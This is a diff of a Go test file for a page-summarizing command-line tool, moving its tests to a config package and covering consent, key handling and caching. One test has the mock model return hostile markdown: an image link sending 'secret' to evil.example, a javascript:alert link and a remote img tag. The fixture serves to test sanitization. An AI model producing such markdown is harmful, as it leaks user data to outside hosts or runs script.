@@ -18,21 +18,22 @@ import (
 	"github.com/yuin/goldmark/extension"
 
 	"pulltab/internal/chattest"
+	"pulltab/internal/config"
 	"pulltab/internal/store"
 	"pulltab/internal/summarize"
 )
 
 // home is a user's home of its own, with a model configured.
-func home(t *testing.T, config modelConfig) string {
+func home(t *testing.T, model config.Model) string {
 	t.Helper()
 	dir := t.TempDir()
 	t.Setenv("HOME", dir)
 	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
 	t.Setenv("XDG_CACHE_HOME", filepath.Join(dir, "cache"))
-	if err := os.MkdirAll(configDir(), 0o700); err != nil {
+	if err := os.MkdirAll(folders().Config, 0o700); err != nil {
 		t.Fatal(err)
 	}
-	if err := writeModelConfig(configDir(), config); err != nil {
+	if err := folders().WriteModel(model); err != nil {
 		t.Fatal(err)
 	}
 	return dir
@@ -57,7 +58,7 @@ func pulltab(stdin string, args ...string) (status int, out, messages string) {
 
 func TestJSONIsAnArrayOfAddressAndSummary(t *testing.T) {
 	service := chattest.Start(t)
-	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model})
+	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
 	marked := write(t, dir, "stored.md", "---\ntitle: Kiln\nurl: https://example.com/kiln?a=b&c=d\nsource: blocks\n---\n\n# Kiln\n\nThe kiln is <hot>. It cools.\n")
 	raw := write(t, dir, "page.html", bread)
 	status, out, messages := pulltab("Butter is made of milk. It melts.\n", "summarize", "--json", marked, raw, "-")
@@ -94,7 +95,7 @@ func TestOneBadPageNeverSinksTheRest(t *testing.T) {
 		}
 		return nil
 	}
-	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model})
+	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
 	files := []string{
 		write(t, dir, "a.md", "Bread wants patience.\n"), filepath.Join(dir, "none.md"), write(t, dir, "empty.html", "<!doctype html><p> </p>"),
 		write(t, dir, "cursed.md", "---\nurl: https://example.com/cursed\n---\nA cursed page.\n"), write(t, dir, "b.md", "Butter melts.\n"),
@@ -132,7 +133,7 @@ func TestOneBadPageNeverSinksTheRest(t *testing.T) {
 func TestAServiceThatIsGoneEndsTheRunAtOnce(t *testing.T) {
 	service := chattest.Start(t)
 	service.Fault = func(int, chattest.Request) chattest.Fault { return chattest.Refuse(401, "no", "") }
-	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model, Parallel: 1})
+	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model, Parallel: 1})
 	args := []string{"summarize"}
 	for i := range 40 {
 		args = append(args, write(t, dir, fmt.Sprintf("%d.md", i), fmt.Sprintf("Page %d.\n", i)))
@@ -151,7 +152,7 @@ func TestTheDigestSaysHowItCameAbout(t *testing.T) {
 	service.Answer = func(chattest.Request) string {
 		return "# Owned\n\n![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <img src=https://evil.example/a> www.evil.example **bold** It is about dough."
 	}
-	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 200})
+	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 200})
 	long := write(t, dir, "long.md", "---\ntitle: \"[Long](https://evil.example)\"\nurl: https://example.com/long\n---\n"+strings.Repeat("A line about dough that goes on and on for a while.\n\n", 40))
 	status, out, messages := pulltab("", "summarize", long, write(t, dir, "a.md", "Bread.\n"))
 	if status != exitDone {
@@ -193,8 +194,8 @@ doubts: \d+
 }
 
 func TestWithoutAModelTheCommandSaysWhatToWrite(t *testing.T) {
-	home(t, modelConfig{})
-	path := filepath.Join(configDir(), modelFile)
+	home(t, config.Model{})
+	path := filepath.Join(folders().Config, config.ModelFile)
 	os.Remove(path)
 	status, out, messages := pulltab("Bread.", "summarize")
 	if status != exitFail || out != "" || !strings.Contains(messages, path) {
@@ -206,15 +207,15 @@ func TestWithoutAModelTheCommandSaysWhatToWrite(t *testing.T) {
 		t.Fatalf("%d examples in\n%s", len(examples), messages)
 	}
 	for _, e := range examples {
-		write(t, configDir(), modelFile, e)
-		if c, err := readModelConfig(configDir()); err != nil || c.Model == "" || c.BaseURL == "" {
+		write(t, folders().Config, config.ModelFile, e)
+		if c, err := folders().Model(); err != nil || c.Model == "" || c.BaseURL == "" {
 			t.Errorf("%+v, %v", c, err)
 		}
 	}
 }
 
 func TestTheConfigurationIsReadStrictly(t *testing.T) {
-	home(t, modelConfig{})
+	home(t, config.Model{})
 	for text, says := range map[string]string{
 		`{"baseUrl":"http://127.0.0.1/v1","model":"m","timeout":5}`:                         `unknown field "timeout"`,
 		`{"baseUrl":"http://127.0.0.1/v1","model":"m","parallel":-1}`:                       "negative",
@@ -228,12 +229,12 @@ func TestTheConfigurationIsReadStrictly(t *testing.T) {
 		`{"baseUrl":"127.0.0.1","model":"m"}`:                                               "is not an address",
 		`not JSON`:                                                                          "model.json: invalid character",
 	} {
-		write(t, configDir(), modelFile, text)
+		write(t, folders().Config, config.ModelFile, text)
 		if status, out, messages := pulltab("Bread.", "summarize"); status != exitFail || out != "" || !strings.Contains(messages, says) {
 			t.Errorf("%s: status %d, %s", text, status, messages)
 		}
 	}
-	if err := os.Chmod(filepath.Join(configDir(), modelFile), 0o666); err != nil {
+	if err := os.Chmod(filepath.Join(folders().Config, config.ModelFile), 0o666); err != nil {
 		t.Fatal(err)
 	}
 	if _, _, messages := pulltab("Bread.", "summarize"); !strings.Contains(messages, "only you can write") {
@@ -244,13 +245,13 @@ func TestTheConfigurationIsReadStrictly(t *testing.T) {
 func TestTheKeyComesFromTheEnvironmentOrACommand(t *testing.T) {
 	service := chattest.Start(t)
 	t.Setenv("PULLTAB_TEST_KEY", "sk-from-env")
-	for want, config := range map[string]modelConfig{
+	for want, model := range map[string]config.Model{
 		"sk-from-env":     {KeyEnv: "PULLTAB_TEST_KEY"},
 		"sk-from-command": {KeyCommand: []string{"echo", "sk-from-command"}},
 		"":                {},
 	} {
-		config.BaseURL, config.Model = service.BaseURL(), chattest.Model
-		home(t, config)
+		model.BaseURL, model.Model = service.BaseURL(), chattest.Model
+		home(t, model)
 		if status, out, messages := pulltab("Bread.", "summarize"); status != exitDone || want != "" && strings.Contains(out+messages, want) {
 			t.Errorf("status %d\n%s%s", status, out, messages)
 		}
@@ -262,7 +263,7 @@ func TestTheKeyComesFromTheEnvironmentOrACommand(t *testing.T) {
 }
 
 func TestConsentIsAskedForOnceAndWrittenDown(t *testing.T) {
-	home(t, modelConfig{BaseURL: "https://models.invalid/v1", Model: "m", KeyCommand: []string{"false"}})
+	home(t, config.Model{BaseURL: "https://models.invalid/v1", Model: "m", KeyCommand: []string{"false"}})
 	status, _, messages := pulltab("Bread.", "summarize")
 	if status != exitFail || !strings.Contains(messages, "would leave this computer for https://models.invalid; if that is what you want, run: pulltab summarize --allow https://models.invalid\n") {
 		t.Fatalf("status %d: %s", status, messages)
@@ -273,7 +274,7 @@ func TestConsentIsAskedForOnceAndWrittenDown(t *testing.T) {
 	if status, out, messages := pulltab("", "summarize", "--allow", "https://MODELS.invalid/v1"); status != exitDone || out+messages != "" {
 		t.Errorf("status %d: %s%s", status, out, messages)
 	}
-	info, err := os.Stat(filepath.Join(configDir(), modelFile))
+	info, err := os.Stat(filepath.Join(folders().Config, config.ModelFile))
 	if err != nil || info.Mode().Perm() != 0o600 {
 		t.Errorf("%v, %v", info, err)
 	}
@@ -284,9 +285,9 @@ func TestConsentIsAskedForOnceAndWrittenDown(t *testing.T) {
 }
 
 func TestKilledInTheMiddleARunRepeatsNoFinishedCall(t *testing.T) {
-	program := program(t) // while the tools' own caches are still where they were
+	program := program(t)
 	service := chattest.Start(t)
-	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 300, Cache: true})
+	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 300, Cache: true})
 	args := []string{"summarize", "--json"}
 	for i := range 40 {
 		var text strings.Builder
@@ -365,7 +366,7 @@ func TestKilledInTheMiddleARunRepeatsNoFinishedCall(t *testing.T) {
 
 func TestWithoutTheSettingNothingIsRemembered(t *testing.T) {
 	service := chattest.Start(t)
-	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model})
+	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
 	for range 2 {
 		if status, _, messages := pulltab("Bread wants patience.", "summarize"); status != exitDone {
 			t.Fatal(messages)
@@ -384,14 +385,14 @@ func TestWithoutTheSettingNothingIsRemembered(t *testing.T) {
 
 func TestSummariesOfPagesThatWereKept(t *testing.T) {
 	service := chattest.Start(t)
-	home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model})
+	home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
 	t.Setenv(envData, t.TempDir())
 	const url = "https://example.com/kiln"
 	args := []string{"summarize", "--json", "--from-cache", url}
 	if status, out, messages := pulltab("", args...); status != exitFail || out != "[]\n" || !strings.Contains(messages, "Skipped "+url+": page memory is off") {
 		t.Errorf("status %d\n%s%s", status, out, messages)
 	}
-	_, err := stored(io.Discard, func(db *store.Store) (store.Clip, error) {
+	_, err := queryStore(io.Discard, func(db *store.Store) (store.Clip, error) {
 		if err := db.SetPreferences(store.Preferences{Pages: true}); err != nil {
 			return store.Clip{}, err
 		}
